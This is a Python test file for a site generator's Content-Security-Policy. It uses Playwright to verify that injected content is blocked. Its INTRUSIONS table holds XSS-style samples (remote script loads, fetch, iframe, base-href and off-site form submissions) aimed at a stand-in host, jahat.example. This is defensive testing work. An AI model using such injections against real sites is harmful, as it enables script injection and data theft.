"""The Content-Security-Policy: what the built pages hold keeps to it, and in a real browser what was put into a page does not run."""

from __future__ import annotations

import hashlib
import re
from base64 import b64encode
from collections.abc import Callable

import pytest
from conftest import BuiltPage, BuiltSite, expect_none
from lxml import etree
from playwright.sync_api import Page, Route

from pustaka.render.delivery import NO_FILE

_FETCHED = " or ".join(f"@rel='{kind}'" for kind in ("stylesheet", "icon", "manifest", "preload", "modulepreload", "prefetch", "apple-touch-icon"))
_SCHEMES = ("http:", "https:", "mailto:", "tel:")


def _directives(page: BuiltPage) -> dict[str, list[str]]:
    content = page.one("meta[http-equiv=Content-Security-Policy]").get("content")
    return {name: values for name, *values in (directive.split() for directive in content.split(";"))}


def _hash(text: str) -> str:
    return f"'sha256-{b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


# -- Every built page --------------------------------------------------------------------------------------------------


def test_every_page_has_the_policy_before_anything_that_it_governs(built_site: BuiltSite):
    faults = []
    for page in (*built_site.all_pages, *built_site.redirects):
        first, second = page.tree.head[:2]
        if first.get("charset") != "utf-8" or second.get("http-equiv") != "Content-Security-Policy":
            faults.append(f"{page}: the head begins with {etree.tostring(first)} {etree.tostring(second)}")
    expect_none(faults)


def test_the_policy_allows_the_hashed_and_the_sites_own_and_nothing_else(built_site: BuiltSite):
    faults = []
    for page in (*built_site.all_pages, *built_site.redirects):
        directives = _directives(page)
        scripts = [_hash(script.text) for script in page.all("script") if script.text and script.get("type") != "application/ld+json"]
        due = {
            "default-src": {"'none'"},
            "script-src": {"'self'", *scripts},
            "style-src": {"'self'", *(_hash(style.text) for style in page.all("style"))},
            "img-src": {"'self'", "data:"},
            **{name: {"'self'"} for name in ("connect-src", "manifest-src", "form-action")},
            "base-uri": {"'none'"},
        }
        faults += [f"{page}: {name} is {directives.get(name)}" for name in due | directives if set(directives.get(name, ())) != due.get(name)]
        if not scripts:
            faults.append(f"{page}: has no inline script, and so shows nothing of hashes")
    expect_none(faults)


def test_no_page_holds_a_style_attribute_or_a_handler(built_site: BuiltSite):
    expect_none(
        f"{page}: <{value.getparent().tag} {value.attrname}={value}>"
        for page in (*built_site.all_pages, *built_site.redirects)
        for value in page.tree.xpath("//@*[name() = 'style' or starts-with(name(), 'on')]")
    )


def test_no_page_asks_another_host_for_anything_or_leads_to_a_script(built_site: BuiltSite):
    faults = []
    for page in (*built_site.all_pages, *built_site.redirects):
        asked = page.tree.xpath(f"//@src | //@srcset | //@poster | //@data | //link[{_FETCHED}]/@href")
        faults += [f"{page}: asks for {address}" for address in asked if address != NO_FILE and re.match(r"[^/?#]*:|[/\\]{2}", address)]
        links = page.tree.xpath("//@href | //@action | //@formaction | //@*[name() = 'xlink:href']")
        faults += [
            f"{page}: leads to {link}" for link in links if re.match(r"\s*[^/?#]*:", link) and not link.startswith(_SCHEMES) and link != NO_FILE
        ]
        faults += [f"{page}: holds <{element.tag}>" for element in page.tree.iter("iframe", "object", "embed", "base", "applet", "frame")]
    expect_none(faults)


# -- In a browser ------------------------------------------------------------------------------------------------------

WATCH = """
window.violations = []; window.ran = [];
addEventListener('securitypolicyviolation', event => violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""


def kinds(site: BuiltSite) -> list[str]:
    """A page of each kind and language: the first of each class that the templates give the body."""
    first: dict[tuple[str, str], str] = {}
    for page in site.pages:
        first.setdefault((page.language, page.tree.body.get("class")), page.address)
    return [*first.values(), "id/tidak/ada/"]


def test_no_page_of_any_kind_breaks_its_own_policy(open_page: Callable[..., Page], built_site: BuiltSite):
    page = open_page()
    page.add_init_script(WATCH)
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if "Content Security Policy" in message.text else None)
    for address in kinds(built_site):
        page.goto(address, wait_until="networkidle")
        page.evaluate("for (const one of document.querySelectorAll('button, summary, input')) one.click()")
        complaints += [f"{address}: {violation}" for violation in page.evaluate("violations")]
    expect_none(complaints)


#: What somebody might get into a page, and what tells that it ran; each waits for what it sets off.
INTRUSIONS = {
    "an inline script": "const one = document.createElement('script'); one.text = 'ran.push(1)'; document.body.append(one)",
    "a script of another host": """await new Promise(done => {
        const one = document.createElement('script'); one.src = 'https://jahat.example/jahat.js';
        one.onload = one.onerror = done; document.body.append(one) })""",
    "a handler": """document.body.insertAdjacentHTML('beforeend', '<b id=jahat onclick="ran.push(1)">x</b>');
        document.getElementById('jahat').click()""",
    "a style attribute": """document.body.insertAdjacentHTML('beforeend', '<b id=jahat style="position: fixed">x</b>');
        if (getComputedStyle(document.getElementById('jahat')).position === 'fixed') ran.push(1)""",
    "a style element": """document.body.insertAdjacentHTML('beforeend', '<style>main { position: fixed }</style>');
        if (getComputedStyle(document.querySelector('main')).position === 'fixed') ran.push(1)""",
    "a link to a script": """document.body.insertAdjacentHTML('beforeend', '<a id=jahat href="javascript:void ran.push(1)">x</a>');
        document.getElementById('jahat').click(); await new Promise(done => setTimeout(done, 200))""",
    # by a timer, for what Playwright itself evaluates may evaluate
    "eval": "await new Promise(done => setTimeout(() => { try { (0, eval)('ran.push(1)') } catch {} done() }))",
    "a timer that is a text": "setTimeout('ran.push(1)'); await new Promise(done => setTimeout(done, 200))",
    "a picture of another host": """await new Promise(done => {
        const one = new Image(); one.onload = () => done(ran.push(1)); one.onerror = done; one.src = 'https://jahat.example/jahat.svg' })""",
    "a message to another host": "await fetch('https://jahat.example/jahat.js', {mode: 'no-cors'}).then(() => ran.push(1), () => {})",
    "a frame": """await new Promise(done => {
        const one = document.createElement('iframe'); one.src = 'https://jahat.example/jahat.js'; one.onload = done;
        document.body.append(one) })""",
    "another base": """document.head.insertAdjacentHTML('afterbegin', '<base href="https://jahat.example/">');
        if (document.baseURI.includes('jahat')) ran.push(1)""",
    "a form that leaves": """document.body.insertAdjacentHTML('beforeend', '<iframe name=jahat></iframe><form target=jahat action="https://jahat.example/jahat.js"></form>');
        document.forms[document.forms.length - 1].submit(); await new Promise(done => setTimeout(done, 300))""",
}


def _intrude(open_page: Callable[..., Page], name: str, guarded: bool) -> tuple[list, list[str], list[str]]:
    """Do it on a page, with the policy or on a copy without it: what ran, what the other host was asked for, what the browser told."""
    asked: list[str] = []

    def of_the_other_host(route: Route) -> None:
        asked.append(route.request.url)
        is_picture = route.request.url.endswith(".svg")
        body = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>' if is_picture else "ran.push(1)"
        route.fulfill(body=body, content_type="image/svg+xml" if is_picture else "text/javascript")

    def without_policy(route: Route) -> None:
        answer = route.fetch()
        stripped, times = re.subn(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>', "", answer.text())
        assert times == 1
        route.fulfill(response=answer, body=stripped)

    page = open_page()
    page.add_init_script(WATCH)
    page.route("https://jahat.example/**", of_the_other_host)
    if not guarded:
        page.route("**/id/about/", without_policy)
    page.goto("id/about/")
    page.evaluate(f"(async () => {{ {INTRUSIONS[name]} }})()")
    return page.evaluate("ran"), asked, page.evaluate("violations")


@pytest.mark.parametrize("name", INTRUSIONS)
def test_what_was_put_into_a_page_does_not_run(name: str, open_page: Callable[..., Page]):
    ran, asked, violations = _intrude(open_page, name, guarded=True)
    assert (ran, asked) == ([], [])
    assert violations, "the browser tells what it refused"


@pytest.mark.parametrize("name", INTRUSIONS)
def test_without_the_policy_it_would(name: str, open_page: Callable[..., Page]):
    ran, asked, violations = _intrude(open_page, name, guarded=False)
    assert ran or asked
    assert violations == []


# -- The chosen scheme -------------------------------------------------------------------------------------------------

#: Notes the scheme at the moment at which the body begins, before any of it is painted.
SEE_BODY = """new MutationObserver((changes, observer) => {
    if (document.body) { window.atBody = document.documentElement.dataset.scheme; observer.disconnect() }
}).observe(document, {childList: true, subtree: true})"""


@pytest.mark.parametrize("system, chosen, paper", [("light", "dark", "rgb(26, 20, 16)"), ("dark", "light", None), ("light", "", None)])
def test_the_chosen_scheme_is_there_before_the_body(system: str, chosen: str, paper: str | None, open_page: Callable[..., Page]):
    """The shared script, which comes later, never arrives: what is seen is the inline one's doing."""
    page = open_page(color_scheme=system)
    page.route("**/assets/site.js*", lambda route: route.abort())
    page.add_init_script(f"localStorage.scheme = '{chosen}'; {SEE_BODY}")
    page.goto("id/about/")
    assert page.evaluate("atBody") == chosen
    shown = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    assert (shown == "rgb(26, 20, 16)") == (paper is not None)


def test_where_the_browser_keeps_nothing_the_page_works(open_page: Callable[..., Page]):
    page = open_page(color_scheme="dark")
    page.add_init_script("Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError') }})")
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto("id/about/")
    page.locator("button.scheme").click()
    assert page.locator("html").get_attribute("data-scheme") == "light"
    assert errors == []
